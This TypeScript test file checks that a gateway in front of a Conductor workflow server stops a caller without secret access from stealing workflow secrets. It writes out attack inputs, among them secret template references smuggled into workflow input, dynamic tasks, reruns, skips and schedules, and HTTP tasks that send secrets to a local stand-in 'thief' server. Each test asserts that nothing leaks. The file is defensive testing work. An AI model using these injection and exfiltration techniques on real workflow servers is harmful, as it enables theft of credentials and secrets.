// Attacks by a caller who has no access to secrets. The caller can start and change workflow executions directly at the Conductor server.
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { holds } from '../../scripts/conductor-data.ts';
import { until } from '../support/gateway-process.ts';
import { type TargetServer, targetServer } from '../support/target-server.ts';
import { type Poller, poller } from './poller.ts';
import type { Setup, TestSecret } from './setup.ts';
import { call, started } from './states.ts';
import { leaksOf } from './where-found.ts';

// biome-ignore lint/suspicious/noExplicitAny: responses of the Conductor server are untyped JSON
type Any = any;

export function describeAttacks(setupOf: () => Setup): void {
  describe('attacks by a caller without access to secrets', () => {
    const WANTED = '${workflow.secrets.wanted}';
    let setup: Setup;
    /** The secret that the registered workflow definitions use. */
    let used: TestSecret;
    /** The secret that the attacker wants. The registered workflow definitions do not use this secret. */
    let wanted: TestSecret;
    let thief: TargetServer;
    let polls: Poller;
    let taskType: string;
    /** One line for each attacked workflow, with the status of the workflow and of its tasks. */
    const outcomes: string[] = [];
    beforeAll(async () => {
      setup = setupOf();
      [used, wanted, thief] = await Promise.all([setup.secret('used'), setup.secret('wanted'), targetServer()]);
      taskType = setup.named('attacked_task');
      await setup.engine.send('POST', '/metadata/taskdefs', [
        { name: taskType, ownerEmail: 'tests@gateway.example', retryCount: 0 },
        {
          ...{ name: setup.named('templated'), ownerEmail: 'tests@gateway.example', retryCount: 0 },
          inputTemplate: { who: '${workflow.input.who}', auth: '${workflow.secrets.used}' },
        },
      ]);
      const echo = (task: Any) => ({ outputData: { echo: task.inputData, reference: WANTED } });
      polls = poller(setup.polling, { [taskType]: echo, [setup.named('templated')]: echo });
    });
    afterAll(async () => {
      console.log(`Attacked workflows:\n${outcomes.map((line) => `  ${line}\n`).join('')}`);
      await polls?.stop();
      await thief?.close();
    });

    async function run(name: string, tasks: unknown[], input: object = {}, more: object = {}): Promise<string> {
      await setup.register({ name: setup.named(name), tasks, ...more });
      return started(setup, name, input);
    }

    /**
     * INVARIANT: No called server, worker or stored data contains the wanted secret. The attacker's server receives no secret.
     */
    async function expectNothingStolen(workflowId: string): Promise<void> {
      const execution = await setup.engine.get(`/workflow/${workflowId}`);
      const tasks = execution.tasks.map(({ referenceTaskName, status, reasonForIncompletion }: Any) =>
        [referenceTaskName, status, reasonForIncompletion?.slice(0, 120)].filter(Boolean).join(' '),
      );
      outcomes.push(`${execution.workflowName} ${execution.status}: ${tasks.join(', ')}`);
      expect(await leaksOf(setup, [execution], [used, wanted])).toEqual([]);
      const text = JSON.stringify([setup.target.asked, polls.received.map(({ inputData }) => inputData)]);
      expect(holds(text, wanted.random)).toBe(false);
      expect(holds(JSON.stringify(thief.asked), used.random)).toBe(false);
      expect(holds(JSON.stringify(thief.asked), wanted.random)).toBe(false);
    }

    test.each([
      WANTED,
      `$${WANTED}`,
      `$$${WANTED}`,
      ' ${workflow.secrets.wanted}',
      '${ workflow.secrets.wanted }',
      '${workflow.secrets[wanted]}',
    ])('a caller without access to secrets obtains no secret by starting a workflow with the input %s', async (who) => {
      const inline = {
        ...{ name: 'script', taskReferenceName: 'script', type: 'INLINE' },
        inputParameters: {
          a: '${workflow.input.who}',
          b: '${workflow.secrets.used}',
          evaluatorType: 'graaljs',
          expression: '$.a',
        },
      };
      const polled = {
        ...{ name: taskType, taskReferenceName: 'polled', type: 'SIMPLE' },
        inputParameters: { who: '${workflow.input.who}', auth: '${workflow.secrets.used}' },
      };
      const post = call(setup, 'call', 'attack/echo', 'used');
      post.inputParameters.http_request = {
        ...post.inputParameters.http_request,
        method: 'POST',
        body: { who: '${workflow.input.who}' },
      };
      for (const [i, task] of [post, inline, polled].entries()) {
        const id = await run(`input_${i}`, [task], { who });
        await setup.engine.ended(id);
        await expectNothingStolen(id);
      }
    });

    test('a caller without access to secrets obtains no secret through workflow input that an input template reads', async () => {
      const task = { name: setup.named('templated'), taskReferenceName: 'polled', type: 'SIMPLE', inputParameters: {} };
      const id = await run('template', [task], { who: WANTED });
      await setup.engine.ended(id);
      await expectNothingStolen(id);
    });

    test('a caller without access to secrets obtains no secret through a task output that contains a reference', async () => {
      const first = { name: taskType, taskReferenceName: 'first', type: 'SIMPLE', inputParameters: {} };
      const post = call(setup, 'call', 'output/echo', 'used');
      post.inputParameters.http_request.headers.y = '${first.output.reference}';
      const id = await run('output', [first, post]);
      await setup.engine.ended(id);
      await expectNothingStolen(id);
    });

    test.each(['HTTP', 'INLINE', 'SIMPLE'])(
      'a caller without access to secrets obtains no secret by adding a task of the type %s to a dynamic fork',
      async (type) => {
        const fork = [
          {
            ...{ name: 'fork', taskReferenceName: 'fork', type: 'FORK_JOIN_DYNAMIC' },
            inputParameters: { tasks: '${workflow.input.tasks}', inputs: '${workflow.input.inputs}' },
            ...{ dynamicForkTasksParam: 'tasks', dynamicForkTasksInputParamName: 'inputs' },
          },
          { name: 'join', taskReferenceName: 'join', type: 'JOIN', inputParameters: {} },
        ];
        const inputParameters = {
          http_request: { method: 'GET', uri: `${thief.url}/fork`, headers: { x: WANTED } },
          ...{ evaluatorType: 'graaljs', expression: '$.a', a: WANTED },
        };
        const forked = { name: type === 'SIMPLE' ? taskType : 'forked', taskReferenceName: 'forked', type };
        for (const tasks of [[forked], [{ ...forked, inputParameters }]]) {
          const id = await run(`dynamic_fork_${type}`, fork, { tasks, inputs: { forked: inputParameters } });
          const execution = await setup.engine.ended(id);
          expect(execution.tasks.map((task: Any) => task.referenceTaskName)).toContain('forked');
          await expectNothingStolen(id);
        }
      },
    );

    test.each(['HTTP', 'INLINE', 'JSON_JQ_TRANSFORM'])(
      'a caller without access to secrets obtains no secret by choosing the type %s for a DYNAMIC task',
      async (chosen) => {
        const task = {
          ...{ name: 'chosen', taskReferenceName: 'chosen', type: 'DYNAMIC', dynamicTaskNameParam: 'chosen' },
          inputParameters: {
            ...{
              chosen: '${workflow.input.chosen}',
              a: '${workflow.secrets.used}',
              http_request: '${workflow.input.request}',
            },
            ...{ expression: '$.a', evaluatorType: 'graaljs', queryExpression: '.a' },
          },
        };
        const request = { method: 'POST', uri: `${thief.url}/dynamic`, body: WANTED };
        const id = await run(`dynamic_${chosen}`, [task], { chosen, request });
        await setup.engine.ended(id);
        await expectNothingStolen(id);
      },
    );

    test('a caller without access to secrets obtains no secret by choosing the server that a task calls', async () => {
      const task = call(setup, 'call', 'unused', 'used');
      for (const uri of [
        '${workflow.input.server}/take',
        '${workflow.input.server}',
        'http://${workflow.input.host}/take',
      ]) {
        task.inputParameters.http_request.uri = uri;
        const id = await run('server', [task], { server: thief.url, host: thief.url.slice('http://'.length) });
        expect((await setup.engine.ended(id)).status).toBe('FAILED');
        await expectNothingStolen(id);
      }
    });

    test('a caller without access to secrets obtains no secret by rerunning a task with a different input', async () => {
      const id = await run('rerun_input', [call(setup, 'call', 'rerun_input/ok', 'used')]);
      const { tasks } = await setup.engine.ended(id);
      const stealing = [
        { http_request: { method: 'GET', uri: `${thief.url}/rerun`, headers: { x: '${workflow.secrets.used}' } } },
        { http_request: { method: 'GET', uri: `${thief.url}/rerun`, headers: { x: WANTED } } },
        {
          http_request: {
            method: 'GET',
            uri: `${setup.target.url}/rerun_input/echo`,
            headers: { x: '${workflow.secrets.used}', y: WANTED },
          },
        },
      ];
      for (const taskInput of stealing) {
        await setup.engine.send('POST', `/workflow/${id}/rerun`, {
          ...{ reRunFromWorkflowId: id, reRunFromTaskId: tasks[0].taskId, taskInput },
        });
        await sleep(1_500);
        await setup.engine.ended(id);
        await expectNothingStolen(id);
      }
    });

    test('a caller without access to secrets obtains no secret by skipping a task and sending its input', async () => {
      const pause = { name: 'pause', taskReferenceName: 'pause', type: 'HUMAN', inputParameters: {} };
      const after = call(setup, 'after', 'skip/echo', 'used');
      after.inputParameters.http_request.headers.y = '${call.input.x}${call.output.x}';
      const id = await run('skip_input', [pause, call(setup, 'call', 'skip/never', 'used'), after]);
      await setup.engine.send('PUT', `/workflow/${id}/skiptask/call`, {
        taskInput: { x: WANTED },
        taskOutput: { x: WANTED },
      });
      await setup.engine.send('POST', `/tasks/${id}/pause/COMPLETED`, {});
      await setup.engine.ended(id);
      await expectNothingStolen(id);
    });

    test('a caller without access to secrets obtains no secret through the workflow input in a schedule', async () => {
      const name = setup.named('scheduled');
      const post = call(setup, 'call', 'schedule/echo', 'used');
      post.inputParameters.http_request.headers.y = '${workflow.input.who}';
      await setup.register({ name, tasks: [post] });
      await setup.engine.send('POST', '/scheduler/schedules', {
        ...{ name, cronExpression: '*/2 * * * * *', zoneId: 'UTC' },
        startWorkflowRequest: { name, version: 1, correlationId: name, input: { who: WANTED } },
      });
      try {
        const arrived = () => setup.target.asked.some(({ path }) => path.startsWith('/schedule/'));
        await until(async () => arrived() || (await executions()).some(({ status }) => status !== 'RUNNING'), 60_000);
      } finally {
        await setup.engine.send('DELETE', `/scheduler/schedules/${name}`);
      }
      async function executions(): Promise<Any[]> {
        return setup.engine.get(`/workflow/${name}/correlated/${name}?includeClosed=true&includeTasks=true`);
      }
      const [first] = await executions();
      await setup.engine.ended(first.workflowId);
      await expectNothingStolen(first.workflowId);
    });

    test('a caller without access to secrets obtains no secret by sending a workflow definition in a start request', async () => {
      const name = setup.named('own_definition');
      const steal = {
        ...{ name: 'call', taskReferenceName: 'call', type: 'HTTP' },
        inputParameters: { http_request: { method: 'GET', uri: `${thief.url}/own`, headers: { x: WANTED } } },
      };
      await setup.register({ name, tasks: [call(setup, 'call', 'own/ok', 'used')] });
      for (const of of [name, setup.named('never_registered')]) {
        const workflowDef = {
          ...{ name: of, version: 1, schemaVersion: 2, timeoutSeconds: 0 },
          ownerEmail: 'a@b.example',
          tasks: [steal],
        };
        const id = await setup.engine.start({ name: of, version: 1, input: {}, workflowDef, correlationId: of });
        expect((await setup.engine.ended(id)).status).toBe('FAILED');
        await expectNothingStolen(id);
      }
    });

    test('the gateway rejects a workflow definition that uses a secret which the caller may not use', async () => {
      const name = setup.named('not_registered');
      const definition = {
        ...{ name, version: 1, schemaVersion: 2, timeoutSeconds: 0, ownerEmail: 'tests@gateway.example' },
        tasks: [call(setup, 'call', 'not_registered/ok', 'wanted')],
      };
      const { stranger } = setup.readers;
      // A caller without a role registers no definition at all.
      for (const [method, path, body, status] of [
        ['POST', '/metadata/workflow', definition, 403],
        ['PUT', '/metadata/workflow', [definition], 403],
        ['POST', '/workflow', { name, version: 1, input: {}, workflowDef: definition }, 400],
      ] as const) {
        expect({ path, status: (await stranger.ask(method, path, body)).status }).toEqual({ path, status });
      }
      await expect(setup.engine.get(`/metadata/workflow/${name}?version=1`)).rejects.toThrow('404');
    });

    test('a caller without access to secrets overwrites no secret by choosing the secret name of an UPDATE_SECRET task', async () => {
      const update = {
        ...{ name: 'store', taskReferenceName: 'store', type: 'UPDATE_SECRET' },
        inputParameters: { _secrets: { secretKey: '${workflow.input.name}', secretValue: '${workflow.input.value}' } },
      };
      const id = await run('update', [update], { name: 'wanted', value: 'mine' });
      expect((await setup.engine.ended(id)).status).toBe('FAILED');
      expect(await setup.w.reveal(setup.w.admin, 'wanted')).toBe(wanted.value);
    });

    test('a caller without access to secrets obtains no secret value by polling tasks', async () => {
      const type = setup.named('stolen_task');
      await setup.engine.send('POST', '/metadata/taskdefs', [
        { name: type, ownerEmail: 'tests@gateway.example', retryCount: 0 },
      ]);
      const inputParameters = { auth: '${workflow.secrets.used}' };
      const { stranger } = setup.readers;
      for (const path of [`/tasks/poll/${type}`, `/tasks/poll/batch/${type}?count=5&timeout=500`]) {
        const id = await run('stolen', [{ name: type, taskReferenceName: 'polled', type: 'SIMPLE', inputParameters }]);
        await setup.engine.when(id, ({ tasks }) => tasks[0]?.status === 'SCHEDULED');
        const { text } = await stranger.ask('GET', path);
        expect([holds(text, used.random), text.includes(type)]).toEqual([false, false]);
        const { tasks } = await setup.engine.ended(id);
        expect(tasks[0].status).toBe('FAILED_WITH_TERMINAL_ERROR');
        expect(tasks[0].reasonForIncompletion).toContain('used');
        await expectNothingStolen(id);
      }
    });

    test('a caller without access to secrets finds no workflow and no task by searching for a secret value', async () => {
      for (const { random } of [used, wanted]) {
        for (const path of ['/workflow/search', '/tasks/search']) {
          const { json } = await setup.readers.stranger.ask('GET', `${path}?freeText=${random}&start=0&size=10`);
          expect(json.totalHits).toBe(0);
        }
      }
    });
  });
}
